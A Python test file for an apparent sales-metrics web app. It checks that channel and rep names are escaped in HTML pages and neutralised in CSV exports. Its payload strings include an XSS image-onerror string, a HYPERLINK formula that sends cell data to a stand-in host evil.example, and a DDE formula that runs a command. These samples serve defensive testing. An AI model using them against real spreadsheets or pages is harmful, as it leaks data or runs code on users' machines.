"""Names people type (channels, reps, customers) never become markup on a page."""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import UTC, datetime
from pathlib import Path

from fastapi.testclient import TestClient

from salesmetrics.domain.cells import inert, restore
from salesmetrics.services.workspace import init_workspace
from salesmetrics.web.render import script_json
from signed_in import owner_client

EVIL = "</script><img src=x onerror=alert(1)>"


def test_script_json_escapes_markup_and_still_parses() -> None:
    text = script_json({"name": EVIL + " & Ї"})
    assert "<" not in text and ">" not in text and "&" not in text and "Ї" in text
    assert json.loads(text) == {"name": EVIL + " & Ї"}


def _sell_through_channel(client: TestClient, channel: str, rep: str = "Olena") -> None:
    """One paid order of 100.00 UAH today through a channel of that name, applied."""
    order = {
        "id": "evt-1", "type": "order.placed", "occurred_at": datetime.now(UTC).isoformat(),
        "data": {"external_id": "X-1", "currency": "UAH", "status": "paid", "channel_id": channel,
                 "rep_id": rep, "lines": [{"quantity": 1, "unit_price_minor": 10_000}]},
    }  # fmt: skip
    assert client.post("/api/v1/events", json=order).status_code == 202
    for _ in range(200):  # applied by the applier thread
        if client.get("/api/v1/events/evt-1").json()["status"] == "applied":
            return
        time.sleep(0.05)
    raise AssertionError("the order was not applied within 10 s")


def test_a_channel_named_like_markup_stays_data_on_every_chart_page(tmp_path: Path) -> None:
    db = tmp_path / "shop.duckdb"
    init_workspace(str(db), {"name": "Крамниця"})
    with owner_client(str(db)) as client:
        _sell_through_channel(client, EVIL, rep=EVIL)  # the Team page shows reps, not channels
        pages = ["/", "/explore?metric=revenue&by=channel&period=this_month", "/team"]
        for page in pages:
            html = client.get(page).text
            assert "<img src=x" not in html, page
        assert "\\u003c/script\\u003e" in client.get(pages[1]).text
        assert "&lt;img src=x" in client.get("/team").text  # the rep is there, as text


# ------------------------------------------------------------------------ formula injection

# OWASP's CSV injection examples and their kin: each would run in a spreadsheet as written.
FORMULAS = [
    "=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-1+1", "@SUM(A1:A2)",
    "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "Оксана;=1+1", "Shop,+SUM(A1)", "a|@x", "x\t-2+3",
]  # fmt: skip
HARMLESS = ["Оксана Коваль", "-5", "+3.2", "1,5", "", "it's fine", "'quoted'", "a - b", "e@mail.ua"]


def test_formulas_become_text_and_come_back_unchanged() -> None:
    for value in FORMULAS:
        written = inert(value)
        assert isinstance(written, str)
        assert not written.startswith(("=", "+", "-", "@", "\t", "\r")), value
        for part in re.split(r"[,;|\t]", written)[1:]:  # a cell split by another delimiter
            assert not part.startswith(("=", "+", "-", "@", "\r")), (value, part)
        assert restore(written) == value
    for value in HARMLESS:
        assert inert(value) == value and restore(value) == value
    assert inert(None) == "" and inert(-5) == -5 and inert(0.25) == 0.25


def test_a_channel_named_like_a_formula_exports_as_text(tmp_path: Path) -> None:
    db = tmp_path / "shop.duckdb"
    init_workspace(str(db), {"name": "Крамниця"})
    name = FORMULAS[1]
    with owner_client(str(db)) as client:
        _sell_through_channel(client, name)
        reply = client.get("/explore.csv?metric=revenue&by=channel&period=this_month")
    rows = list(csv.DictReader(io.StringIO(reply.text)))
    assert [r["channel"] for r in rows] == ["'" + name]  # text in any spreadsheet
    assert restore(rows[0]["channel"]) == name and rows[0]["revenue"] == "10000"
